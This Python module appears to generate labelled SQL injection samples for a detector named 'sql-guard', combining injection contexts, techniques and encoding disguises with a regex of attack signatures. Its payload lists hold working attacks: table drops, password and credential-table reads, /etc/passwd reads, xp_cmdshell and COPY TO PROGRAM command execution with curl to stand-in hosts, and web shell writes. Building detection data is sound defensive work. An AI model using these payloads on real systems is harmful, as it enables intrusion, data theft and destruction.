"""Injections for `sql-guard`, built from a grammar of techniques, contexts and disguises.

Seeded and written from scratch: *where* the attacker stands (number, string, LIKE, parentheses,
identifier, whole statement), *what* is injected (boolean, union, time, error, stacked, out of
band, commands, files, catalogue reads), *how* the rest is cut off, and *how* it is disguised.
"""

import random
import re
from urllib.parse import quote

from . import sql_analytics
from . import sql_benign as benign
from .sql_benign import pick


def num(rng):
    return str(rng.randint(0, 10 ** rng.randint(1, 4)))


def tag(rng):
    return "".join(pick(rng, "abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(1, 6)))


def expression(rng):
    """What an attacker wants to read."""
    table = pick(rng, ["users", "admin", "accounts", "members", "customers", "payments", tag(rng)])
    col = pick(rng, ["password", "username", "email", "card", "cvv", "ssn", "token", tag(rng)])
    return pick(rng, [
        "version()", "@@version", "user()", "database()", "current_user", "@@hostname", "@@datadir",
        "session_user", "system_user", "db_name()", "current_database()", "sqlite_version()", "user",
        f"(SELECT {col} FROM {table} LIMIT 1)", f"(SELECT {col} FROM {table} WHERE id={num(rng)})",
        f"(SELECT TOP 1 {col} FROM {table})", f"(SELECT group_concat({col}) FROM {table})",
        f"concat({col},0x3a,{col})", f"group_concat({col},0x3a,{col} SEPARATOR 0x3c62723e)",
        "(SELECT table_name FROM information_schema.tables LIMIT 1)", f"CHR({num(rng)})||CHR(58)",
        f"(SELECT column_name FROM information_schema.columns WHERE table_name='{table}')",
        "(SELECT banner FROM v$version WHERE ROWNUM=1)", "(SELECT name FROM sysobjects WHERE xtype='U')",
        "(SELECT sql FROM sqlite_master)", "(SELECT string_agg(usename,',') FROM pg_user)", "load_file('/etc/passwd')",
        f"CHAR({num(rng)},{num(rng)})", f"(SELECT CONCAT('{tag(rng)}',(SELECT (ELT(1=1,1))),'{tag(rng)}'))",
        f"(SELECT {col} FROM {table} ORDER BY {num(rng)} LIMIT {num(rng)},1)", "pg_read_file('/etc/passwd')",
        "(SELECT passwd FROM pg_shadow)", "(SELECT password FROM mysql.user LIMIT 1)", f"LENGTH({col})",
        "(SELECT name FROM master..sysdatabases)", "(SELECT grantee FROM syscat.dbauth)", "(SELECT tabname FROM systables)",
        "(SELECT versionnumber FROM sysibm.sysversions)", "current_setting('data_directory')", "inet_server_addr()", "host_name()",
        "(SELECT name FROM sysibm.syscolumns)", "(SELECT * FROM sys.user$)", "(SELECT privilege FROM dba_sys_privs)", "suser_sname()",
        "is_srvrolemember('sysadmin')", "(SELECT usename FROM pg_user)", "(SELECT instance_name FROM v$instance)", "@@servername",
        "(SELECT session_user FROM sysibm.sysdummy1)", "(SELECT name FROM syscolumns WHERE id=1)", "pg_ls_dir('./')", "dbmsinfo('_version')",
        "(SELECT grantee FROM syscat.tabauth WHERE grantee=current user)", "(SELECT table_name FROM iitables)", "getpgusername()",
        "(SELECT host FROM mysql.db)", "(SELECT name FROM master..syslogins)", "(SELECT datname FROM pg_database)",
        "(SELECT username FROM all_users WHERE ROWNUM=1)", "UTL_INADDR.get_host_name('10.0.0.1')",
    ])


def truth(rng):
    """A condition that the attacker steers, mostly without columns."""
    a, b, s = num(rng), num(rng), tag(rng)
    e = expression(rng)
    return pick(rng, [
        f"{a}={a}", f"{a}={b}", f"{a}={a}", f"{a} = {a}", f"'{s}'='{s}'", f"'{s}' = '{s}'", f'"{s}"="{s}"',
        f"'{s}' LIKE '{s}'", f"{a} LIKE {a}", f"{a}<{b}", f"{b}>{a}", f"{a}<>{b}", f"{a}!={b}", "true", "false", "1",
        f"NOT {a}={b}", f"{a} BETWEEN {a} AND {b}", f"{a} IN ({a})", f"'{s}' IN ('{s}')", f"({a})=({a})", "not false",
        f"{a} IS NOT NULL", "2>1", f"'{s}'>'{s[0]}'", f"{a}=(SELECT {a})", f"EXISTS(SELECT * FROM {s})", f"'{s}'",
        f"ASCII(SUBSTRING({e},{a},1))>{b}", f"ORD(MID({e},{a},1))={b}", f"SUBSTR({e},{a},1)='{s[0]}'", f"{a} or {b}",
        f"LENGTH({e})>{a}", f"(SELECT COUNT(*) FROM {s})>{a}", f"{e} LIKE '{s[0]}%'", f"(SELECT {a} FROM {s})={a}",
        f"UNICODE(SUBSTRING({e},{a},1))<{b}", f"{e} IS NULL", f"{e}='{s}'", f"username LIKE '%{s}%'", "id IS NOT NULL",
        f"password LIKE '{s}%'", f"email='{s}@{s}.com'", f"{s} IS NULL", f"MAKE_SET({a}={a},{b})", f"email IS NULL",
        f"(SELECT CASE WHEN ({a}={b}) THEN {a} ELSE 1/0 END)={a}", f"{a}=IF(({a}={b}),{a},{b})", f"uname='{s}'",
        f"JSON_LENGTH('{{}}')<={a}", f"'{{\"a\":{a}}}'::jsonb @> '{{\"a\":{a}}}'", f"{a} REGEXP '^[{a}-9]'",
        f"JSON_EXTRACT('{{\"{s}\": {a}}}', '$.{s}') = {a}", f"{a} RLIKE {a}", f"{a}%2={a}", f"{a}-{b}={a}-{b}", "''=''",
    ])


def delay(rng):
    n = pick(rng, ["1", "3", "5", "10", "15", "20"])
    return pick(rng, [
        f"SLEEP({n})", f"sleep({n})", f"BENCHMARK({n}000000,MD5('{tag(rng)}'))", f"PG_SLEEP({n})", f"pg_sleep({n}.0)",
        f"(SELECT {num(rng)} FROM (SELECT(SLEEP({n})))a)", f"(SELECT(0)FROM(SELECT(SLEEP({n})))v)",
        f"(SELECT {num(rng)} FROM PG_SLEEP({n}))", f"DBMS_PIPE.RECEIVE_MESSAGE('{tag(rng)}',{n})",
        f"DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),{n})", f"IF({num(rng)}={num(rng)},SLEEP({n}),0)",
        f"(CASE WHEN 1=1 THEN PG_SLEEP({n}) ELSE NULL END)", f"(SELECT COUNT(*) FROM GENERATE_SERIES(1,{n}000000))",
        f"LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({n}00000000/2))))", f"RANDOMBLOB({n}00000000)",
        "(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4)", f"IF(1=1,BENCHMARK({n}00000,SHA1(1)),0)",
        "(SELECT COUNT(*) FROM sysusers AS s1,sysusers AS s2,sysusers AS s3)", f"ELT({num(rng)}={num(rng)},SLEEP({n}))",
        "(SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A,INFORMATION_SCHEMA.COLUMNS B)", f"(SELECT SLEEP({n}))",
        f"DBMS_SESSION.SLEEP({n})", f"REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR({num(rng)}),0),500000000),NULL)",
        "(SELECT COUNT(*) FROM DOMAIN.DOMAINS AS T1,DOMAIN.COLUMNS AS T2)",
        "(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3)",
    ])


def error(rng):
    e, a = expression(rng), num(rng)
    return pick(rng, [
        f"EXTRACTVALUE({a},CONCAT(0x5c,{e}))", f"UPDATEXML({a},CONCAT(0x7e,{e},0x7e),{a})", f"CONVERT(INT,{e})",
        f"CAST({e} AS INT)", f"CAST(({e})::text AS NUMERIC)", f"GTID_SUBSET(CONCAT(0x71,{e}),{a})", f"1/0",
        f"(SELECT {a} FROM(SELECT COUNT(*),CONCAT({e},FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)a)",
        f"UTL_INADDR.GET_HOST_ADDRESS({e})", f"CTXSYS.DRITHSX.SN({a},({e}))", f"EXP(~(SELECT * FROM (SELECT {e})x))",
        f"XMLType(CHR(60)||{e}||CHR(62))", f"(SELECT UPPER(XMLType(CHR(60)||CHR(58)||{e})) FROM DUAL)", f"1 IN ({e})",
        f"JSON_KEYS((SELECT CONVERT((SELECT {e}) USING utf8)))", f"ROW({a},{a})>(SELECT COUNT(*),{e})", f"{a} IN (SELECT ({e}))",
        f"POLYGON((SELECT * FROM(SELECT * FROM(SELECT {e})f)x))", f"PROCEDURE ANALYSE(EXTRACTVALUE({a},{e}),1)",
        f"DBMS_XMLGEN.GETXMLTYPE({e})", f"ORDSYS.ORD_DICOM.GETMAPPINGXPATH({e},USER)", f"NTILE({a})",
    ])


def union(rng):
    count = rng.randint(1, rng.choice([3, 8, 30]))
    kind = rng.randrange(5)
    cells = [{0: "NULL", 1: str(at + 1), 2: num(rng), 3: f"'{tag(rng)}'", 4: f"CHAR({num(rng)})"}[kind]
             for at in range(count)]
    for _ in range(rng.choice([0, 1, 1, 2])):
        cells[rng.randrange(count)] = expression(rng)
    if rng.random() < 0.15:
        cells = [pick(rng, ["*", "username,password", "card,cvv", "email,pass", "table_name", "name,sql", "1,2,3"])]
    tail = pick(rng, ["", "", " FROM users", " FROM information_schema.tables", " FROM dual", " FROM sqlite_master",
                      f" FROM {tag(rng)}", " FROM mysql.user", " FROM payments", " FROM pg_catalog.pg_user",
                      " FROM information_schema.columns WHERE table_name='users'", " FROM sysobjects WHERE xtype='U'",
                      " FROM customers LIMIT 10", " FROM all_tables", " FROM RDB$DATABASE", " FROM MSysAccessObjects",
                      f" INTO OUTFILE '/tmp/{tag(rng)}.php'", " WHERE 1=1"])
    head = pick(rng, ["UNION SELECT", "UNION ALL SELECT", "UNION ALL SELECT", "UNION DISTINCT SELECT",
                      "UNION(SELECT", "UNION ALL (SELECT"])
    return f"{head} {pick(rng, [',', ', ']).join(cells)}{tail}" + (")" if "(" in head else "")


def stacked(rng):
    table, s = pick(rng, ["users", "products", "orders", "members", "accounts", tag(rng)]), tag(rng)
    return pick(rng, [
        f"DROP TABLE {table}", f"DROP DATABASE {s}", f"TRUNCATE TABLE {table}", f"DELETE FROM {table}", f"DROP SCHEMA {s}",
        f"UPDATE {table} SET password='{s}'", f"UPDATE {table} SET role='admin' WHERE name='{s}'", "SHUTDOWN", "SHUTDOWN WITH NOWAIT",
        f"INSERT INTO {table} VALUES('{s}','{s}')", f"INSERT INTO {table}(user,pass) VALUES ('{s}',{num(rng)})",
        f"WAITFOR DELAY '0:0:{rng.randint(1, 20)}'", f"if (1=1) WAITFOR DELAY '00:00:0{rng.randint(1, 9)}'", "WAITFOR TIME '23:00'",
        f"EXEC xp_cmdshell 'dir {s}'", f"EXEC master..xp_cmdshell 'ping {s}.example.net'", f"exec master.dbo.xp_dirtree '//{s}/a'",
        f"DECLARE @q varchar(99) SET @q=0x{s.encode().hex()} EXEC(@q)", "EXEC sp_configure 'show advanced options',1",
        f"declare @{s} int; select @{s}=1", f"COPY {s} FROM PROGRAM 'id'", f"COPY (SELECT '') TO PROGRAM 'curl {s}.example'",
        f"COPY {table} TO '/tmp/{s}.csv'", f"SELECT pg_sleep({rng.randint(1, 20)})", f"SELECT {delay(rng)}", f"CALL {s}()",
        f"CREATE USER {s} IDENTIFIED BY '{s}'", f"GRANT ALL PRIVILEGES ON *.* TO '{s}'@'%'", f"ALTER USER {s} WITH SUPERUSER",
        f"CREATE TABLE {s} (line blob)", f"LOAD DATA INFILE '/etc/passwd' INTO TABLE {s}", "SELECT lo_import('/etc/passwd')",
        f"SELECT {expression(rng)} INTO OUTFILE '/var/www/{s}.php'", f"SELECT * FROM {table}", f"SELECT {expression(rng)}",
        f"BEGIN DBMS_LOCK.SLEEP({rng.randint(1, 20)}); END", f"SELECT * FROM OPENROWSET('SQLOLEDB','{s}';'sa';'x','select 1')",
        f"CREATE OR REPLACE FUNCTION {s}(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE 'C' STRICT", "SELECT 1",
        f"begin declare @r varchar(8000) set @r=':' select @r=@r+' '+name from {table} end", f"drop table {s}; select 1",
        f"BACKUP DATABASE {s} TO DISK='\\\\{s}\\x'", f"SELECT UTL_HTTP.REQUEST('http://{s}.example/'||user) FROM dual",
        f"CREATE EXTENSION dblink", f"exec sp_addlogin '{s}','{s}'", f"exec sp_addsrvrolemember {s},sysadmin", "END",
        f"SET PASSWORD FOR root=PASSWORD('{s}')", f"DO $$ BEGIN PERFORM pg_sleep(5); END $$", f"DROP VIEW {s}",
    ])


# What tells an attacked statement from an ordinary one that merely ends in `OR email = 'x'`.
TELLING = re.compile(
    r"--|#|/\*|\bunion\b|sleep|benchmark|waitfor|randomblob|generate_series|extractvalue|updatexml|xp_|sp_\w"
    r"|\bexec\b|declare|shutdown|program|outfile|load_file|lo_import|utl_|dbms_|openrowset|pg_read|pg_shadow"
    r"|sys\w+\b.*\bfrom|master\.\.|\bsyscat|sysibm|v\$|pg_|dba_|iitables|mysql\.|current_setting|inet_server|host_name|suser"
    r"|is_srvrole|dbmsinfo|getpguser|information_schema|sysobjects|sqlite_master|all_users|@@|(\b\d+)\s*(=|like|<|>)\s*\(?\d"
    r"|'([^']*)'\s*(=|like)\s*'|ascii\(|ord\(|unicode\(|1/0|1/\(|ctxsys|xmltype|make_set|;\s*(drop|delete|grant)",
    re.IGNORECASE,
)


def telling(make, rng):
    """The first of twenty tries that shows its intent."""
    for _ in range(20):
        text = make(rng)
        if TELLING.search(text):
            break
    return text


def core(rng):
    """The injected piece, after the context was left."""
    link = pick(rng, ["AND", "OR", "OR", "AND", "&&", "||", "XOR", "HAVING", "RLIKE", "AND NOT", "OR NOT"])
    draw = rng.random()
    if draw < 0.32:
        return f" {link} {truth(rng)}"
    if draw < 0.50:
        return f" {union(rng)}"
    if draw < 0.64:
        return f" {link} {delay(rng)}" if rng.random() < 0.8 else f" {link} {num(rng)}={delay(rng)}"
    if draw < 0.76:
        return f" {link} {error(rng)}" if rng.random() < 0.6 else f" {link} {num(rng)}={error(rng)}"
    if draw < 0.92:
        lead = pick(rng, [";", "; ", ";"])
        return lead + stacked(rng) + pick(rng, ["", ";"])
    return pick(rng, [
        f" ORDER BY {num(rng)}", f" GROUP BY {num(rng)} HAVING {truth(rng)}", f" HAVING {truth(rng)}", f" LIMIT 1,1 {error(rng)}",
        f" GROUP BY {tag(rng)}.{tag(rng)} HAVING 1=1", f" ORDER BY {num(rng)},{num(rng)}", f" PROCEDURE ANALYSE()", f"*{delay(rng)}",
        f" INTO OUTFILE '/tmp/{tag(rng)}'", f"||{expression(rng)}||", f"+{expression(rng)}+", f",{expression(rng)}", f"||{delay(rng)}",
        f",(SELECT (CASE WHEN ({truth(rng)}) THEN 1 ELSE 1/0 END))", f"-{delay(rng)}", f" WHERE {truth(rng)}", f"^{delay(rng)}",
        f" IS NULL {link} {truth(rng)}", f" AS {tag(rng)} WHERE {truth(rng)}", f"={delay(rng)}", f" BETWEEN 1 AND {expression(rng)}",
    ])


def value(rng):
    """A parameter value that carries an injection."""
    start = pick(rng, ["", "1", "-1", num(rng), tag(rng), "admin", "x", "%", benign.word(rng), "0", "a@b.c", benign.short(rng)])
    quote_ = pick(rng, ["", "", "'", "'", "'", '"', "')", "'))", ")", "))", '")', "%'", "''", "`", "\\'", "';", "']", "'||'"])
    if quote_ in ("';",):
        body = stacked(rng)
    else:
        body = core(rng)
    end_draw = rng.random()
    quote_char = '"' if '"' in quote_ else "'"
    opened = quote_.count(")")
    if end_draw < 0.45:
        end = pick(rng, ["--", "-- ", "-- -", "--+", "#", "/*", ";--", ";#", ";%00", "-- " + tag(rng), "--" + tag(rng), "//", ";-- -", "\x00"])
    elif end_draw < 0.8 and ("'" in quote_ or '"' in quote_):
        s = tag(rng)
        middle = pick(rng, [f"{quote_char}{s}{quote_char}={quote_char}{s}", f"{quote_char}{s}{quote_char} LIKE {quote_char}{s}",
                            f"({quote_char}{s}{quote_char})=({quote_char}{s}", f"{quote_char}{quote_char}={quote_char}",
                            f"{quote_char}1{quote_char}={quote_char}1", f"{quote_char}{s}"])
        end = f" {pick(rng, ['AND', 'OR', '||', 'AND'])} " + "(" * opened + middle
    elif opened:
        end = pick(rng, ["", " AND (" * opened + f"{num(rng)}={num(rng)}", f" AND ({num(rng)}={num(rng)}"])
    else:
        end = ""
    return start + quote_ + body + end


def recon(rng):
    """A statement of its own that reads the server's catalogue or settings."""
    text = telling(expression, rng)
    if text.startswith("(SELECT"):
        return text[1:-1] + pick(rng, [";", "", " --", ";"])
    return f"select {text}{pick(rng, [';', '', ' --', ' from dual', '; --'])}"


def bare(rng):
    """Without a context of its own: sub-queries, function calls, probes."""
    q = pick(rng, ["'", '"'])
    s = tag(rng)
    return pick(rng, [
        lambda: f"({expression(rng)})", lambda: f"(SELECT {delay(rng)})", lambda: delay(rng), lambda: union(rng),
        lambda: telling(stacked, rng), lambda: f"(SELECT (CASE WHEN ({truth(rng)}) THEN {num(rng)} ELSE 1/(SELECT 0) END))",
        lambda: f"{q}||{expression(rng)}||{q}", lambda: f"{q}+{expression(rng)}+{q}", lambda: f"{q}=({delay(rng)})={q}",
        lambda: f"{q}{pick(rng, [' or ', ' OR ', 'or', '||', ' && ', ' and ', '='])}{q}", lambda: error(rng),
        lambda: f"{q} or {s} like {q}%", lambda: f"{q} or {num(rng)}--", lambda: f"{s}{q}--", lambda: f"{s}{q} #",
        lambda: f"{s}{q}/*", lambda: f"{q}-{q}", lambda: f"{q} {q}", lambda: f"{q}&{q}", lambda: f"{q}^{q}", lambda: f"{q}*{q}",
        lambda: f"{q};", lambda: f"{s}{q};--", lambda: f"{q}) or ({q}{s}{q}={q}{s}", lambda: f"{q}or{q}{s}{q}={q}{s}",
        lambda: f"{num(rng)}{q}{q}", lambda: f"{num(rng)}{q}", lambda: f"{q}{q}", lambda: f"{q}--", lambda: f"{q}#", lambda: f"{q}))",
        lambda: f"or {truth(rng)}", lambda: f"and {truth(rng)}", lambda: f"and {delay(rng)}", lambda: f"having {truth(rng)}",
        lambda: f"or {num(rng)}={num(rng)}--", lambda: f" ORDER BY {rng.randint(1, 60)}{pick(rng, ['', ' ', '#', '-- '])}",
        lambda: f"{pick(rng, ['or', 'hi or', 'x or', ') or (', num(rng) + ' or', num(rng) + ' and'])} {s}={pick(rng, [s, tag(rng)])}",
        lambda: f"0x{s.encode().hex()} exec(@{s})", lambda: f"{num(rng)} exec sp_{s}", lambda: f"exec xp_{s}", lambda: f"{q}{s}",
        lambda: f"sleep({s})#", lambda: f" or ({pick(rng, ['exists', 'EXISTS'])})", lambda: f") or sleep({num(rng)})={q}",
        lambda: f"‘ or ‘{s}’=’{s}" if q == "'" else f"’ or ’1’=’1", lambda: f"{num(rng)}′ or 1=1--", lambda: f"{q} or {s}={s}--", lambda: f"if({truth(rng)},{delay(rng)},0)", lambda: f"order by {num(rng)}--",
        lambda: f"{q} or exists(select 1 from {s})--", lambda: f"{num(rng)}-{delay(rng)}", lambda: f";{stacked(rng)}",
        lambda: "select " + telling(expression, rng), lambda: recon(rng), lambda: recon(rng), lambda: f"exec({s})", lambda: f"{q}>{q}",
        lambda: f"select * from {s} where id = {num(rng)} or {truth(rng)} -- {num(rng)}", lambda: f"@@{s}", lambda: f"{q} is null--",
        lambda: f"{q},{q}{s}{q});--", lambda: f"{q} group by {s} having 1=1--", lambda: f"{q}; {stacked(rng)}--", lambda: f"'; {stacked(rng)} --",
        lambda: f"benchmark(10000000,MD5(1))#", lambda: f"{num(rng)} or {delay(rng)}#", lambda: f"{q}) {core(rng)}", lambda: f"a{q} or {truth(rng)};#",
        lambda: f"{s}{q} or {q}{num(rng)}{q}={q}{num(rng)}{q} limit 1 -- -+", lambda: f"-1{q} {union(rng)}", lambda: f"{s} {union(rng)}--",
    ])()


def embedded(rng):
    """A whole statement, as a database's log shows it after the application pasted the value."""
    inject = core(rng)
    end = pick(rng, ["--", "-- ", "#", "/*", "-- -", ";--"])
    table, col = pick(rng, benign.TABLES), pick(rng, benign.COLUMNS)
    cols = ", ".join(rng.sample(benign.COLUMNS, rng.randint(1, 5)))
    start, s = pick(rng, ["", "1", num(rng), tag(rng), benign.word(rng), "-1"]), tag(rng)
    rest = pick(rng, ["'", "' LIMIT 1", "' ORDER BY id", "' AND active = 1", "%'", "'"])
    close = end + pick(rng, ["", rest])
    if rng.random() < 0.3:
        close = f" AND '{s}'='{s}{rest}" if rng.random() < 0.7 else f" OR '{rest}"
    if rng.random() < 0.2:
        # Into a statement that is long and varied itself, after a value or at the end.
        text = sql_analytics.Writer(rng).query()
        at = text.find("'", text.find("WHERE")) if "WHERE" in text else -1
        if at > 0 and rng.random() < 0.6:
            return f"{text[: at + 1]}{start}'{inject}{close}{text[at + 1 :]}"
        return f"{text} {pick(rng, [union(rng), inject, '; ' + stacked(rng)])}{end}"
    text = pick(rng, [
        f"SELECT {cols} FROM {table} WHERE {col} = '{start}'{inject}{close}",
        f"SELECT {cols} FROM {table} WHERE {col} = '{start}'{inject} {end}'",
        f"SELECT * FROM {table} WHERE {col} = '{start}'{inject}{close}",
        f"SELECT {cols} FROM {table} WHERE {col} = {start or 1}{inject}",
        f"SELECT {cols} FROM {table} WHERE {col} = {num(rng)}{inject}{pick(rng, ['', end, ' LIMIT 1', ' ORDER BY id'])}",
        f"SELECT {cols} FROM {table} WHERE {col} LIKE '%{start}%'{inject}{end}%'",
        f"SELECT {cols} FROM {table} WHERE ({col} = '{start}'){inject}{end}')",
        f"SELECT id FROM users WHERE username = '{start}'{inject}{end}' AND password = '{s}'",
        f"SELECT id FROM users WHERE username = 'admin'{end}' AND password = '{s}'",
        f"SELECT id FROM users WHERE username = '{s}' AND password = '{start}' OR {truth(rng)}{close}",
        f"SELECT id FROM users WHERE username = '' OR '1'='1' AND password = '' OR '1'='1'",
        f"UPDATE {table} SET {col} = '{start}'{pick(rng, [', role = ' + chr(39) + 'admin' + chr(39), ''])} WHERE id = {num(rng)}{inject}{end}",
        f"INSERT INTO {table} ({cols}) VALUES ('{start}', {expression(rng)}){end}', '{s}')",
        f"INSERT INTO {table} ({col}) VALUES ('{start}');{stacked(rng)}{end}')",
        f"DELETE FROM {table} WHERE id = {num(rng)} OR {truth(rng)}",
        f"SELECT {cols} FROM {table} ORDER BY {pick(rng, [expression(rng), delay(rng), f'(CASE WHEN ({truth(rng)}) THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)'])}",
        f"SELECT {cols} FROM {table} WHERE id IN ({num(rng)}){inject}{end})",
        f"SELECT {cols} FROM {table} WHERE {col} = '{start}'; {stacked(rng)}{end}'",
        f"{benign.select(rng)} {union(rng)}{end}", f"{benign.select(rng)}; {stacked(rng)}{end}",
    ])
    return text


COMMENTS = ["/**/", "/**/", "/*x*/", "/*!*/", "%0a", "\t", "\n", "  ", "+", "%20", "%09", "%0d%0a", "/**//**/", "%a0"]


def disguise(rng, text):
    """Case, white space, comments, encodings; each sometimes, several at times."""
    draw = rng.random()
    if draw < 0.35:
        text = text.lower()
    elif draw < 0.45:
        text = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)
    if rng.random() < 0.12:
        gap = pick(rng, COMMENTS)
        text = text.replace(" ", gap)
    elif rng.random() < 0.06:
        text = "".join(pick(rng, COMMENTS) if c == " " and rng.random() < 0.5 else c for c in text)
    elif rng.random() < 0.07:
        text = text.replace(" (", "(").replace("= ", "=").replace("' ", "'").replace(" '", "'").replace(" = ", "=")
    elif rng.random() < 0.06:
        text = text.replace("(", "  (  ").replace(")", "  )  ").replace("=", "  =  ")
    if rng.random() < 0.05:
        for key in ("UNION", "SELECT", "FROM", "AND", "OR", "WHERE"):
            for form in (key, key.lower()):
                code = f"/*!{pick(rng, ['', '50000', '12345'])}{form}*/"
                text = text.replace(f" {form} ", f" {code} ")
    if rng.random() < 0.03:
        text = text.replace("=", pick(rng, [" LIKE ", " REGEXP ", " IN "]), 1)
    draw = rng.random()
    if draw < 0.08:
        text = quote(text, safe="")
    elif draw < 0.13:
        text = quote(text, safe="").replace("%20", "+")
    elif draw < 0.15:
        text = quote(quote(text, safe=""), safe="")
    elif draw < 0.17:
        text = "".join(f"%{ord(c):02x}" if ord(c) < 128 else c for c in text)
    elif draw < 0.18:
        text = "".join(f"%u00{ord(c):02x}" if c in "'\"<>=() " else c for c in text)
    elif draw < 0.19:
        text = "".join(chr(ord(c) + 0xFEE0) if c in "'\"()=" else c for c in text)
    return text


def rows(count, seed):
    """`count` attack rows: about half values, a fifth without context, the rest whole statements."""
    rng = random.Random(seed)
    made = []
    for _ in range(count):
        draw = rng.random()
        if draw < 0.5:
            kind, text = "param", value(rng)
        elif draw < 0.68:
            kind, text = "param", bare(rng)
        elif draw < 0.72:
            kind, text = "param", benign.sentence(rng) + value(rng)
        else:
            kind, text = "query", telling(embedded, rng)
        text = disguise(rng, text) if kind == "param" or rng.random() < 0.5 else text
        made.append({"text": text, "kind": kind, "label": 1, "source": f"generated_attack_{kind}"})
    return made
